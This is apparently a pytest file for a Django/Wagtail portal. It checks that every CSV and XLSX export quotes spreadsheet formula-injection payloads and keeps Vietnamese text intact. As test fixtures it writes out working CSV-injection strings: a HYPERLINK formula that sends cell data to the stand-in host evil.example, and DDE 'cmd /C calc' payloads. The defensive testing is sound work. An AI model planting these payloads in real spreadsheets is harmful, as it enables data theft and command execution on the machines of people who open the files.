"""Every CSV/XLSX export of the project, fed hostile text: no cell a spreadsheet would run as a formula (= + - @,
tab, CR) leaves the portal unquoted, and Vietnamese stays intact. The exports all go through
portal.security.spreadsheets; a new export must be added to EXPORTS below, or test_every_export_of_our_apps_is_tested
fails."""

import codecs
import csv
import datetime
import io
from datetime import timedelta

import pytest
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import Page

from events import services as event_services
from portal.inputs.text import clean_line
from portal.security.spreadsheets import FORMULA_START, neutralise, neutralise_row
from tests.factories.clubs import make_club
from tests.factories.events import event_index, make_event, registration_data, study_tour_kind
from tests.factories.portal import AdministrativeUnitFactory, AgencyFactory, UserFactory, board_user, nominator
from tests.factories.training import NominationRoundFactory, invite, nominate
from tests.factories.training_cohorts import issued_certificate
from training.models import PracticumDelivery, TrainerProfile
from training.nominations.enums import NominationStatus

pytestmark = pytest.mark.django_db

EQ = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+cmd|'/C calc'!A0"  # 19 characters: it also fills a phone field (max 20)
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=2+2"
HOSTILE = [EQ, PLUS, MINUS, AT, TAB, CR]

# route name -> the hostile values its export must show neutralised (at least these; others may appear too)
EXPORTS = {
    "wagtailsnippets_portal_agency:list": [EQ, PLUS, MINUS],
    "wagtailsnippets_portal_administrativeunit:list": [AT],
    "wagtailsnippets_training_nomination:list": [MINUS, TAB],
    "wagtailsnippets_training_cohort:list": [EQ, PLUS],
    "wagtailsnippets_training_enrolment:list": [MINUS],
    "wagtailsnippets_training_trainerprofile:list": [MINUS, CR],
    "wagtailsnippets_training_practicumdelivery:list": [EQ, AT],
    "wagtailsnippets_training_certificate:list": [MINUS],
    "wagtailsnippets_events_registration:list": [EQ, PLUS],
    "wagtailsnippets_events_delegate:list": [AT, PLUS],
    "wagtailsnippets_events_studytourreport:list": [EQ, PLUS],
    "quiet_clubs": [EQ],
    "events_missing_reports": [MINUS],
    "wagtailadmin_reports:aging_pages": [EQ],  # Wagtail's own reports export page titles club editors write
}
AGENCY_EXPORT = "training:nomination_export"  # the agency nominator's own list, /tot/de-cu/ho-so/xuat.csv|xlsx


def test_neutralise_quotes_formula_starts_and_leaves_the_rest():
    for value in HOSTILE:
        assert neutralise(value) == "'" + value.replace("\r", "\n")  # line breaks are LF in every output
    assert neutralise("Nguyễn Thị Ánh") == "Nguyễn Thị Ánh"
    assert neutralise("0905 123 456") == "0905 123 456"
    assert neutralise(-5) == -5 and neutralise(None) is None and neutralise("") == ""
    assert neutralise(datetime.date(2026, 3, 1)) == datetime.date(2026, 3, 1)


def test_a_row_is_neutralised_as_each_of_its_cells_would_be():
    decomposed = "Nguye\u0302\u0303n"  # NFD: cleaned to NFC only when looked at alone
    combining_first = "\u0301Ánh"  # NFC alone, not once joined to a cell before it
    cells = [*HOSTILE, "Nguyễn Thị Ánh", "", None, -5, datetime.date(2026, 3, 1), decomposed, combining_first,
             "dòng 1\ndòng 2", "\x00ẩn", "=", "-", "a=b"]
    for first in cells:
        for second in cells:
            row = [first, "Đà Nẵng", second]
            assert neutralise_row(row) == [neutralise(value) for value in row], row
    assert neutralise_row(["Quảng Nam", 7, "=1+1"]) == ["Quảng Nam", 7, "'=1+1"]


@pytest.fixture
def hostile_world(site_tree, home):
    """One record of every exported kind, its text fields set to formula payloads (written as an admin or an older
    import might: exports must be safe whatever the forms let through)."""
    directory, _ = site_tree
    unit = AdministrativeUnitFactory(name=AT)
    agency = AgencyFactory(name=EQ, short_name=PLUS, phone=MINUS, unit=unit)
    club = make_club(directory, title=EQ, unit=unit)
    long_ago = timezone.now() - timedelta(days=400)
    Page.objects.filter(pk=club.pk).update(last_published_at=long_ago, first_published_at=long_ago)

    user = nominator(agency=agency)
    round_ = NominationRoundFactory(title=PLUS)
    invite(round_, agency)
    nominate(user, round_, status=NominationStatus.SUBMITTED, full_name="Hồ Quang Bửu", workplace=MINUS,
             position=TAB, sectors=["sản phẩm OCOP"])

    certificate = issued_certificate(full_name=MINUS, workplace=CR)
    cohort = certificate.enrolment.cohort
    cohort.name, cohort.venue = EQ, PLUS
    cohort.save()
    profile = TrainerProfile.objects.get(enrolment=certificate.enrolment)
    PracticumDelivery.objects.create(
        trainer=profile, date=timezone.localdate(), club=club, topic=AT, role="lead", participants=12, notes=EQ
    )

    index = event_index(home)
    conference = make_event(index, title="Hội nghị mạng lưới CLB khởi nghiệp")
    event_services.register(conference, **registration_data(full_name=EQ, organisation=PLUS))
    event_services.register(conference, **registration_data(full_name="Nguyễn Thị Bích"))
    tour = make_event(index, title="Đoàn khảo sát Đà Nẵng", kind=study_tour_kind(),
                      start=timezone.now() - timedelta(days=10))
    head = event_services.nominate_delegate(tour, full_name=AT, email="buu@example.vn", agency=agency, is_head=True,
                                            position=PLUS)
    event_services.nominate_delegate(tour, full_name=MINUS, email="thieu@example.vn", agency=AgencyFactory())
    event_services.file_tour_report(tour, UserFactory(email=head.email), lessons=EQ, proposals=PLUS,
                                    for_delegation=True)
    return {"nominator": user}


def csv_cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    # Every CSV is UTF-8 with one BOM (Excel shows diacritics only with it) and says so (portal.security.csv_encoding).
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith(codecs.BOM_UTF8) and not body[3:].startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8").removeprefix("\ufeff"), newline="")))
    return rows[0], [cell for row in rows[1:] for cell in row]


def xlsx_cells(response):
    """Text cells of the first sheet's data rows (XML stores a carriage return as a line feed)."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    rows = list(sheet.iter_rows())
    assert all(cell.data_type != "f" for row in rows for cell in row)
    return [cell.value for row in rows[1:] for cell in row if isinstance(cell.value, str)]


def assert_neutralised(cells, expected, route=""):
    dangerous = [cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_START)]
    assert dangerous == [], route
    for value in expected:
        # Saved through a model, a one-line field was cleaned (tab and line breaks folded: portal.inputs.text).
        shown = {"'" + value, "'" + value.replace("\r", "\n"), "'" + clean_line(value)}
        assert shown & set(cells), f"{value!r} missing from the export {route}"


def test_every_board_export_neutralises_hostile_text(client, hostile_world):
    """One data set, every export (the data takes seconds to build; the exports milliseconds)."""
    client.force_login(board_user(is_superuser=True))
    for route, expected in EXPORTS.items():
        url = reverse(route)
        response = client.get(url, {"export": "csv"})
        assert response.status_code == 200, url
        headings, cells = csv_cells(response)
        assert headings and not any(h.startswith(FORMULA_START) for h in headings)
        assert_neutralised(cells, expected, route)

        response = client.get(url, {"export": "xlsx"})
        assert response.status_code == 200, url
        assert_neutralised(xlsx_cells(response), [v.replace("\r", "\n") for v in expected], route)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_agency_export_neutralises_hostile_text(client, hostile_world, fmt):
    client.force_login(hostile_world["nominator"])
    response = client.get(reverse(AGENCY_EXPORT, args=[fmt]))
    assert response.status_code == 200
    cells = csv_cells(response)[1] if fmt == "csv" else xlsx_cells(response)
    assert "Hồ Quang Bửu" in cells and "sản phẩm OCOP" in cells
    assert_neutralised(cells, [MINUS, TAB, PLUS, EQ])


def _admin_routes():
    def walk(patterns, namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                yield from walk(pattern.url_patterns, inner)
            elif pattern.name:
                yield f"{namespace}{pattern.name}", pattern.callback

    return list(walk(get_resolver().url_patterns))


def test_every_export_of_our_apps_is_tested():
    """Any listing or report of our apps that offers CSV/XLSX through Wagtail is in EXPORTS above."""
    ours = set()
    for name, callback in _admin_routes():
        view_class = getattr(callback, "view_class", None)
        if not view_class or not issubclass(view_class, SpreadsheetExportMixin) or name.endswith("_results"):
            continue
        list_export = getattr(callback, "view_initkwargs", {}).get("list_export") or view_class.list_export
        model = getattr(callback, "view_initkwargs", {}).get("model")
        module = (model or view_class).__module__.split(".")[0]
        if list_export and module in {"portal", "clubs", "training", "events", "reports"}:
            ours.add(name)
    assert ours and ours <= set(EXPORTS), f"exports without a hostile-text test: {sorted(ours - set(EXPORTS))}"


def test_every_wagtail_export_goes_through_the_helper():
    assert getattr(SpreadsheetExportMixin.preprocess_field_value, "neutralises_formulas", False)


def test_yearly_report_xlsx_neutralises_hostile_names(client, hostile_world):
    """The Board's yearly report (reports/xlsx.py) writes its own workbook with the same helper."""
    client.force_login(board_user(is_superuser=True))
    response = client.get(reverse("board_yearly_report"), {"year": timezone.localdate().year, "format": "xlsx"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    assert_neutralised(cells, [EQ, AT], "board_yearly_report")
